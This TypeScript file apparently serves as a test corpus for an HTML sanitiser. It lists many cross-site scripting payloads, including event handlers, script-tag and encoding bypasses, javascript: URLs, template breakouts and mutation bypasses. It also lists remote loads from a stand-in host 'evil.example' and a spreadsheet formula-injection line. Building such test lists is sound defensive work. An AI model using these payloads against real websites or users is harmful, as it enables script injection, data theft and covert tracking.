/**
 * Texts that want to run a script in the reader's browser, or to tell another server that they were read. Made from the
 * places in which a browser runs or loads something, so that none is forgotten.
 */

/** What a script would do: it is seen on the console, whatever frame it runs in. */
export const TRACE = "zqxss";
/** Where everything that loads would load from. */
export const OUTSIDE = "evil.example";
const run = `console.log(/${TRACE}/)`;
const url = (name: string) => `https://${OUTSIDE}/${name}`;

const handlers = [
  `<img src=x onerror=${run}>`, `<img src=x onerror="${run}">`, `<img src=x onerror='${run}'>`, `<IMG SRC=x ONERROR=${run}>`, `<img/src=x/onerror=${run}>`, `<img\tsrc=x\tonerror=${run}>`, `<img\nsrc=x\nonerror=${run}>`,
  `<img src="x" alt="\`" onerror="${run}">`, `<img src=x oneonerrorrror=${run}>`, `<img src=x onerror=&#99;onsole.log(/${TRACE}/)>`, `<image src=x onerror=${run}>`, `<img src=x:x onerror=${run}//`, `<<img src=x onerror=${run}>>`,
  `<img srcset="x 1x" onerror=${run}>`, `<picture><source srcset=x><img src=x onerror=${run}></picture>`, `<svg onload=${run}>`, `<svg/onload=${run}>`, `<svg><g onload=${run}></g></svg>`, `<svg><image href=x onerror=${run}></svg>`, `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${run} attributeName=x></svg>`, `<svg><style>{}</style><script>${run}</script></svg>`, `<svg><foreignObject><body onload=${run}></body></foreignObject></svg>`, `<body onload=${run}>`, `<body onpageshow=${run}>`, `<body onresize=${run}><style>*{width:200%}</style>`,
  `<iframe onload=${run}>`, `<iframe src=about:blank onload=${run}>`, `<video src=x onerror=${run}>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<object data=x onerror=${run}>`, `<embed src=x onerror=${run}>`, `<link rel=stylesheet href=x onerror=${run}>`, `<style onload=${run}>*{}</style>`,
  `<details open ontoggle=${run}>x</details>`, `<input autofocus onfocus=${run}>`, `<select autofocus onfocus=${run}>`, `<textarea autofocus onfocus=${run}>`, `<button autofocus onfocus=${run}>x</button>`, `<a href=# autofocus tabindex=1 onfocus=${run}>x</a>`, `<div contenteditable autofocus onfocus=${run}>x</div>`,
  `<marquee onstart=${run}>x</marquee>`, `<meter onmouseover=${run}>x</meter>`, `<div style="animation-name:x" onanimationstart=${run}>x</div><style>@keyframes x{}</style>`, `<div onwheel=${run} onpointerenter=${run} style="position:fixed;inset:0">x</div>`, `<form><button formaction=javascript:${run}>x</button></form>`,
  `<dialog open oncancel=${run} onclose=${run}>x</dialog>`, `<xss onafterscriptexecute=${run}>`, `<xss onbeforematch=${run} hidden=until-found id=x>`, `<isindex type=image src=x onerror=${run}>`, `<template><img src=x onerror=${run}></template>`, `<custom-element onclick=${run}>x</custom-element>`,
];

const scripts = [
  `<script>${run}</script>`, `<SCRIPT>${run}</SCRIPT>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script >${run}</script >`, `<script\n>${run}</script\n>`, `<script/x>${run}</script>`, `<script>${run}`, `"><script>${run}</script>`, `'><script>${run}</script>`, `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`, `</style><script>${run}</script>`, `--><script>${run}</script>`, `]]><script>${run}</script>`, `<script src=${url("s.js")}></script>`, `<script src=//${OUTSIDE}/s.js></script>`, `<script type=module>import "${url("m.js")}"</script>`, `<script type=module>${run}</script>`,
  `<script>/*<img src="*/${run}//">`, `<noscript><p title="</noscript><script>${run}</script>">`, `<!--[if gte IE 4]><script>${run}</script><![endif]-->`, `\\u003cscript\\u003e${run}\\u003c/script\\u003e`, `%3Cscript%3E${run}%3C/script%3E`, `&lt;script&gt;${run}&lt;/script&gt;`, `+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\u0000<script>${run}</script>`, `<script\u0000>${run}</script>`,
];

const links = ["a href", "area href", "iframe src", "object data", "embed src", "form action", "base href", "link rel=import href", "input type=image src", "video poster", "body background", "svg><a xlink:href", "math href"].flatMap((place) => [`<${place}="javascript:${run}">x`, `<${place}="data:text/html,<script>${run}</script>">x`]);

const spellings = [
  `<a href="JaVaScRiPt:${run}">x</a>`, `<a href="java\tscript:${run}">x</a>`, `<a href="java\nscript:${run}">x</a>`, `<a href=" javascript:${run}">x</a>`, `<a href="&#106;avascript:${run}">x</a>`, `<a href="&#x6A;avascript:${run}">x</a>`, `<a href="javascript&colon;${run}">x</a>`, `<a href="\u0001javascript:${run}">x</a>`,
  `<a href="vbscript:${run}">x</a>`, `<a href="data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")}">x</a>`, `<a target=_blank href="javascript://%0a${run}">x</a>`, `[x](javascript:${run})`, `![x](x "onerror=${run}")`, `javascript:${run}`, `<javascript:${run}>`,
];

const breakouts = [
  `"-${run}-"`, `'-${run}-'`, `\`-${run}-\``, `";${run};//`, `';${run};//`, `\\";${run};//`, `\${${run}}`, `{{${run}}}`, `{{constructor.constructor('${run}')()}}`, `{% raw %}<script>${run}</script>{% endraw %}`, `<%= ${run} %>`, `#{${run}}`, `" onfocus=${run} autofocus x="`, `' onfocus=${run} autofocus x='`, `" onmouseover="${run}`, `x onerror=${run} src=x`,
  `</script><script>${run}</script>`, `<!--<script>${run}</script>-->`, `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`, `}</style><script>${run}</script>`, `\u2028${run}\u2029`, `=cmd|'/C calc'!A1`,
];

const mutations = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${run}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`, `<svg></p><style><a id="</style><img src=x onerror=${run}>">`, `<noembed><img title="</noembed><img src=x onerror=${run}>">`, `<xmp><img alt="</xmp><img src=x onerror=${run}>">`,
  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`, `<p id="</style><img src=x onerror=${run}>">`, `<table><td background="javascript:${run}">x</table>`, `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${run}>">`, `<d<img src=x onerror=${run}>iv>x</div>`, `<div title="&quot;><img src=x onerror=${run}>">x</div>`,
];

const loads = [
  `<img src=${url("p1.png")}>`, `<img src="//${OUTSIDE}/p2.png">`, `<img srcset="${url("p3.png")} 1x">`, `<picture><source srcset=${url("p4.png")}><img></picture>`, `<video poster=${url("p5.png")} src=${url("v.mp4")} autoplay></video>`, `<audio src=${url("a.mp3")} autoplay></audio>`, `<video><track default src=${url("t.vtt")}></video>`,
  `<link rel=stylesheet href=${url("s.css")}>`, `<link rel=preload as=image href=${url("p6.png")}>`, `<link rel=prefetch href=${url("p7.html")}>`, `<link rel=dns-prefetch href=//${OUTSIDE}>`, `<link rel=icon href=${url("i.ico")}>`, `<style>@import "${url("i.css")}";</style>`, `<style>body{background:url(${url("b.png")})}</style>`, `<style>@font-face{font-family:x;src:url(${url("f.woff")})}*{font-family:x}</style>`,
  `<div style="background-image:url(${url("b2.png")})">x</div>`, `<div style="background:\\75rl(${url("b3.png")})">x</div>`, `<li style="list-style:url(${url("l.png")})">x</li>`, `<p style="cursor:url(${url("c.png")}),auto;content:url(${url("c2.png")})">x</p>`, `<div style="border-image:url(${url("b4.png")}) 1;mask:url(${url("m.svg")})">x</div>`, `<table background=${url("t.png")}><td>x</table>`, `<body background=${url("b5.png")}>`,
  `<svg><image href=${url("s.png")} /></svg>`, `<svg><use href="${url("u.svg")}#x" /></svg>`, `<svg><filter id=f><feImage href=${url("fe.png")} /></filter></svg>`, `<iframe src=${url("f.html")}></iframe>`, `<iframe srcdoc="<img src=${url("f.png")}>"></iframe>`, `<frameset><frame src=${url("fr.html")}></frameset>`, `<object data=${url("o.html")}></object>`, `<embed src=${url("e.html")}>`,
  `<input type=image src=${url("i.png")}>`, `<meta http-equiv=refresh content="0;url=${url("refresh")}">`, `<base href=${url("")}><img src=x.png>`, `<form action=${url("form")} id=z><input name=a></form>`, `<a href=${url("ping")} ping=${url("ping")}>x</a>`, `<html manifest=${url("m.appcache")}>`, `<bgsound src=${url("b.mp3")}>`, `<portal src=${url("portal")}></portal>`, `<img src="cid:x" lowsrc=${url("low.png")} dynsrc=${url("d.avi")}>`, `![x](${url("md.png")})`,
];

export const payloads: readonly string[] = [...handlers, ...scripts, ...links, ...spellings, ...breakouts, ...mutations, ...loads];
